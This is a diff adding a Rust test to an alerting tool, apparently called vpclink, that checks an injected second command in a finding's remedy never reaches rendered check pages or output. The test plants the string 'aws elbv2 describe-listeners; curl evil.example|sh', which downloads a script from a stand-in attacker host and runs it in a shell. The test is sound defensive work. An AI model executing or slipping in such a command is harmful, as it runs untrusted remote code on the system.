@@ -203,6 +203,29 @@ fn stage_variable_that_is_a_command() {
     }
 }
 
+/// A check that forgot to quote a name still puts no second command before an engineer, in `vpclink check` neither.
+#[test]
+fn command_of_a_check_that_was_not_quoted() {
+    let mut alert = planted("x");
+    let mut spoilt = 0;
+    for remedy in alert.judgement.findings.iter_mut().filter_map(|finding| finding.remedy.as_mut()) {
+        remedy.command = Some("aws elbv2 describe-listeners; curl evil.example|sh".to_owned());
+        remedy.verify.clone_from(&remedy.command);
+        spoilt += 1;
+    }
+    assert!(spoilt > 0);
+    let subject = &alert.news.example.subject;
+    for text in [
+        alerts::check_document(subject, &alert.judgement),
+        alerts::check_page("x", &alert.judgement),
+        alerts::html_page(std::slice::from_ref(&alert)),
+        alerts::machine_body(&alert),
+    ] {
+        assert!(text.contains("Check that the service runs"), "{text}");
+        assert!(!text.contains("curl evil"), "{text}");
+    }
+}
+
 /// The examples' commands: exactly the words that are meant, whatever a shell makes of the rest.
 #[test]
 fn every_command_is_words() {
